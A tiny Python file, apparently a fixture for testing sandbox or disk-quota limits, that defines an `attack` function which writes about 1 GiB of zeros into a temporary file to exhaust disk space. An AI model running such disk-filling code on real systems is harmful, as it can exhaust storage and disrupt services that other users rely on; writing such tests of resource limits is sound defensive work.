import os


def attack(victim):
    with open(os.path.join(os.environ["TMPDIR"], "large"), "wb") as file:
        for _ in range(1 << 10):
            file.write(bytes(1 << 20))
    return True
